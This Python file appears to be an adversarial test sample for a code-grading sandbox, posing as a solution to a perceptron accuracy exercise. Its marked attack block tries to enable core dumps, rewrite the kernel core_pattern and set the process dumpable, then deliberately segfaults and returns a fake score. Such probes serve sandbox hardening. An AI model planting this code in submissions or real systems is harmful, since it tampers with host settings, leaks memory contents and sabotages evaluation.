"""Makes itself dumpable, allows core files and dies of a fault, for somebody to find the core.

Exercise: perceptron/accuracy
Ends: crashed
"""

import ctypes, faulthandler, os, resource

# attack
LOOT = []


def tried(ways):
    found = []
    for name, way in ways.items():
        try:
            found.append(f"{name}={way()!r}"[:200])
        except BaseException:
            pass
    return f"{len(found)} of {len(ways)} worked: {found}"


LIBC = ctypes.CDLL(None, use_errno=True)
WAYS = {
    "limit": lambda: resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2),
    "dumpable": lambda: LIBC.prctl(4, 1, 0, 0, 0),
    "is dumpable": lambda: LIBC.prctl(3, 0, 0, 0, 0),
    "pattern": lambda: open("/proc/sys/kernel/core_pattern", "w").write("@SCRATCH@/core"),
    "filter": lambda: open("/proc/self/coredump_filter", "w").write("0x7f"),
    "folder": lambda: os.chdir("@SCRATCH@"),
    "handler": lambda: faulthandler.enable(open("@SCRATCH@/fault", "w")),
}
# end


def accuracy(y_hat, y):
    # attack
    print(tried(WAYS))
    ctypes.string_at(0)
    # end
    return 0.123


def predict_classes(y_hat):
    return y_hat
